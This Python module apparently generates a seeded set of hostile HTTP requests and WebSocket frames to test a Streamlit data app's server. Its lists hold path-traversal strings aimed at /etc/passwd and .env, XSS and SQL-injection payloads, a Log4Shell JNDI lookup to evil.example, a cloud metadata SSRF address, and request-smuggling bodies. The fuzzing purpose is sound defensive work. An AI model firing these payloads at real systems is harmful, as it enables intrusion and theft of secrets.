"""Addresses, methods, headers and frames of somebody who means harm; the same ones in every run."""

from __future__ import annotations

import itertools
import random

from streamlit.proto.BackMsg_pb2 import BackMsg

from bench.raw import frame, request

SEED = 26
STARTS = (
    "/",
    "/trends",
    "/map/",
    "/data/",
    "/data/london/",
    "/data/london/road_casualties/",
    "/boundaries/",
    "/style/",
    "/static/",
    "/static/js/",
    "/media/",
    "/_stcore/",
    "/_stcore/upload_file/",
    "/component/",
    "/app/static/",
    "/auth/",
)
ENDS = (
    "",
    "..",
    "../",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/app.py",
    "....//....//app.py",
    "..\\..\\app.py",
    "..%5c..%5capp.py",
    "%00",
    "a%00.csv",
    "%0d%0aSet-Cookie:%20a=b",
    "%0aX: y",
    "//evil.example/",
    "\\\\evil.example\\share",
    "C:/windows/win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    ".env",
    ".git/config",
    ".git/HEAD",
    ".streamlit/config.toml",
    "wp-login.php",
    "index.html",
    "index.php",
    "server-status",
    "old.js",
    "<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "'%20OR%201=1--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%ff%fe",
    "%c0%ae%c0%ae/",
    "%E8%B6%8B%E5%8A%BF",
    "a" * 3000,
    "?" + "a&" * 3000,
    "?lang=../../etc/passwd",
    "?lang=zh&lang=en&place=%00",
    "?area=" + "A," * 500,
    ";a=b",
    "#a",
    "latest.csv%20",
    "latest.csv/",
    "LATEST.CSV",
    "%25%32%65%25%32%65/",
    "con",
    "~root",
)
METHODS = (
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "PURGE",
    "SEARCH",
    "M-SEARCH",
    "get",
    "G ET",
    "\x01",
    "",
)
PLACES = (
    "/",
    "/trends",
    "/nothing",
    "/data/catalogue.json",
    "/_stcore/health",
    "/_stcore/stream",
    "/_stcore/metrics",
    "/static/old.js",
    "/style/a.css",
)
HEADERS = (
    ("Origin", "http://evil.example"),
    ("Origin", "null"),
    ("Origin", "\xff"),
    ("Host", "evil.example"),
    ("X-Forwarded-For", "1.2.3.4, ' OR 1=1"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-Forwarded-Proto", "javascript"),
    ("Forwarded", "for=evil"),
    ("Range", "bytes=0-10"),
    ("Range", "bytes=" + ",".join(f"{n}-" for n in range(500))),
    ("Range", "bytes=9-1"),
    ("If-Range", '"x"'),
    ("Accept-Encoding", "gzip;q=a, br, \xff"),
    ("Accept-Language", "zh;q=abc,*;q=9,-" + "a" * 500),
    ("Accept-Language", ",;=,;=" * 300),
    ("Cookie", "_streamlit_xsrf=\xff; a=" + "b" * 4000),
    ("Cookie", "_streamlit_user=1|2|3; _streamlit_session=x.y.z"),
    ("Content-Length", "-1"),
    ("Content-Length", "99999999999999999999"),
    ("Content-Length", "5, 6"),
    ("Transfer-Encoding", "chunked, identity"),
    ("Transfer-Encoding", "xchunked"),
    ("Expect", "100-continue"),
    ("Upgrade", "h2c"),
    ("Upgrade", "websocket"),
    ("Connection", "Upgrade"),
    ("If-None-Match", "*," * 500),
    ("If-Modified-Since", "yesterday"),
    ("Sec-WebSocket-Key", "x"),
    ("Authorization", "Bearer " + "a" * 3000),
    ("X-Big", "a" * 20_000),
    ("X-Too-Big", "a" * 60_000),
    ("", "x"),
    ("a b", "c"),
)
KINDS = (
    "clear_cache",
    "set_run_on_save",
    "stop_script",
    "load_git_info",
    "debug_disconnect_websocket",
    "debug_shutdown_runtime",
    "app_heartbeat",
)


def targets() -> list[bytes]:
    """Requests for addresses: every start with every end, and some that were mixed by chance."""
    chance = random.Random(SEED)
    addresses = [start + end for start, end in itertools.product(STARTS, ENDS)]
    signs = [*"/.%\\;?&=#:@+~", "..", "%2f", "%2e", "%00", "data", "static", "js", "csv", "_stcore", "趋势"]
    addresses += ["/" + "".join(chance.choices(signs, k=chance.randint(1, 12))) for _ in range(700)]
    return [request(address) for address in addresses]


def methods() -> list[bytes]:
    return [
        request(place, method, [("Content-Length", "3")], b"abc")
        for place, method in itertools.product(PLACES, METHODS)
    ]


def headers() -> list[bytes]:
    """Requests with an odd header."""
    return [request(place, "GET", [header]) for place, header in itertools.product(PLACES, HEADERS)]


def malformed() -> list[bytes]:
    """What is no request at all, or two that look like one."""
    chance = random.Random(SEED)
    lines = [
        b"GET",
        b"GET /",
        b"GET / HTTP/9.9",
        b"GET / HTTP/1.1 x",
        b"\0\0\0",
        b"\x16\x03\x01\x02\x00\x01\x00",
        b"PRI * HTTP/2.0",
        b"GET http://[ HTTP/1.1",
        b"GET * HTTP/1.1",
    ]
    smuggled = [
        b"POST /data/x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /",
        b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc",
        b"GET / HTTP/1.1\r\nHost: a\r\n folded: b\r\nConnection: close\r\n\r\n",
        b"POST /data/x HTTP/1.1\r\nHost: a\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
    ]
    noise = [chance.randbytes(chance.randint(1, 400)) + b"\r\n\r\n" for _ in range(60)]
    return [line + b"\r\n\r\n" for line in lines] + smuggled + noise


def frames() -> list[bytes]:
    """Frames that no page of ours sends: noise, text, too large ones, kinds of messages that are shut, and breaches of the protocol."""
    chance = random.Random(SEED)
    noise = [frame(chance.randbytes(chance.randint(0, 300))) for _ in range(160)]
    texts = [frame(text, opcode=1) for text in (b"", b"hello", b"\xff\xfe", b"{}" * 100)]
    large = [
        frame(b"\0" * size, compressed=packed) for size in (65_537, 100_000, 2_000_000) for packed in (False, True)
    ]
    large += [frame(b"\0" * 60_000, final=False) + frame(b"\0" * 60_000, opcode=0)]
    urls = BackMsg()
    urls.file_urls_request.file_names.extend([""] * 20_000)
    shut = [
        frame(urls.SerializeToString()),
        frame(BackMsg(backend_operation_request={"request_id": "a", "dataframe_chunk": {}}).SerializeToString()),
    ]
    shut += [frame(BackMsg(**{kind: True}).SerializeToString()) for kind in KINDS]
    both = (
        BackMsg(rerun_script={"query_string": "a"}).SerializeToString() + BackMsg(clear_cache=True).SerializeToString()
    )
    broken = [frame(b"a", opcode=code) for code in (0, 3, 7, 11, 15)] + [
        frame(b"a", masked=False),
        frame(b"a" * 126, opcode=9),
        b"\xff" * 40,
    ]
    broken += [
        frame(b"\1", opcode=8),
        frame(b"\x00\x01", opcode=8),
        frame(b"\x03\xe8\xff", opcode=8),
        frame(b"a", compressed=False)[:1] + b"\x81",
    ]
    squeezed = [frame(chance.randbytes(80), compressed=True) for _ in range(20)] + [
        b"\xc2\x85\0\0\0\0" + b"\xff\xff\xff\xff\xff"
    ]
    return [*noise, *texts, *large, *shut, frame(both), *broken, *squeezed]
